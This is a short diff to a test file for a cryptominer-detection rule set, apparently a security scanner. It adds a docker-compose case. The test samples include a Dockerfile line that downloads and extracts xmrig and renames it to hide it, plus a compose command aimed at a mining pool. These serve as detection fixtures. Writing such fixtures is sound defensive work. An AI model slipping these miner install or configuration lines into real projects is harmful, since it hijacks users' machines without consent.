@@ -32,4 +32,10 @@ describeRuleCases('mining', [
       'RUN curl -fsSL "$URL" | tar -xz -C /usr/local/bin xmrig && mv /usr/local/bin/xmrig /usr/local/bin/lcw\n',
     negative: 'RUN pip install --no-cache-dir /wheels/* && rm -rf /wheels\n',
   },
+  {
+    id: 'SG-MINER-004',
+    file: 'assets/docker-compose.yml',
+    positive: 'services:\n  meta:\n    command: ["-o", "pool.example.net:443", "--donate-level", "0"]\n',
+    negative: 'services:\n  meta:\n    command: ["--interval", "60"]\n',
+  },
 ]);
